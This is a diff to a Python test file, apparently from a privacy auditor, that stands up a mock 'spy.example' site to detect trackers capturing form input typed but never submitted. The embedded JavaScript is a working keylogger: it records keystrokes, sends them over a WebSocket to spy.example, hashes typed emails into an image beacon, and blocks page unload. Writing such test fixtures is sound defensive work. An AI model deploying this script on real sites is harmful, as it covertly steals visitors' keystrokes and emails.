@@ -1,10 +1,13 @@
 """Values are typed into forms as a visitor would, never submitted, and reach whoever listens."""
 
+import asyncio
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 
 import pytest
 import pytest_asyncio
+from starlette.requests import Request
+from starlette.responses import Response
 from starlette.websockets import WebSocket
 
 from auditor.demo.vendors import VENDORS
@@ -34,6 +37,8 @@ FORMS = f"""<!doctype html><link rel=icon href=data:,><title>Forms</title>
 <script src={SPY}/spy.js></script>"""
 SPYING = f"""
 const socket = new WebSocket('wss://spy.example/keys');
+const opened = new Promise((open) => socket.onopen = open);
+new Image().src = '{SPY}/ready';
 const held = [];
 addEventListener('keydown', (event) => held.push(event.key));
 onbeforeunload = (event) => event.preventDefault();
@@ -42,7 +47,7 @@ addEventListener('input', ({{target}}) => {{
 }});
 addEventListener('change', (event) => {{
   if (event.target.name !== 'mail') return;
-  socket.send(held.join(''));
+  opened.then(() => socket.send(held.join('')));
   crypto.subtle.digest('SHA-256', new TextEncoder().encode(event.target.value.toLowerCase())).then((digest) => {{
     const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
     new Image().src = `{SPY}/p.gif?em=${{hex}}`;
@@ -53,10 +58,20 @@ addEventListener('pagehide', () => navigator.sendBeacon('{SPY}/bye',
 """
 
 
+listening = asyncio.Event()
+
+
 async def keys(socket: WebSocket) -> None:
     await socket.accept()
+    listening.set()
     async for _ in socket.iter_text():
         pass
+
+
+async def ready(request: Request) -> Response:
+    """Keeps the page loading until its socket is open: on a slow machine values would be typed before."""
+    await listening.wait()
+    return Response(status_code=204)
 
 
 MASKED = """<!doctype html><link rel=icon href=data:,><form><input name=contact type=email></form>
@@ -89,7 +104,12 @@ SITES = VENDORS | {
     ),
     "letters.example": Site(routes={"/sign": SIGN}),
     "spy.example": Site(
-        routes={"/spy.js": script(SPYING), "/p.gif": typed(GIF, "image/gif"), "/bye": typed("", "text/plain")},
+        routes={
+            "/spy.js": script(SPYING),
+            "/p.gif": typed(GIF, "image/gif"),
+            "/bye": typed("", "text/plain"),
+            "/ready": ready,
+        },
         sockets={"/keys": keys},
     ),
 }
@@ -138,6 +158,7 @@ async def test_nothing_is_submitted(seen: Seen) -> None:
         "/p.gif",
         "/bye",
         "/keys",
+        "/ready",
     }
 
 
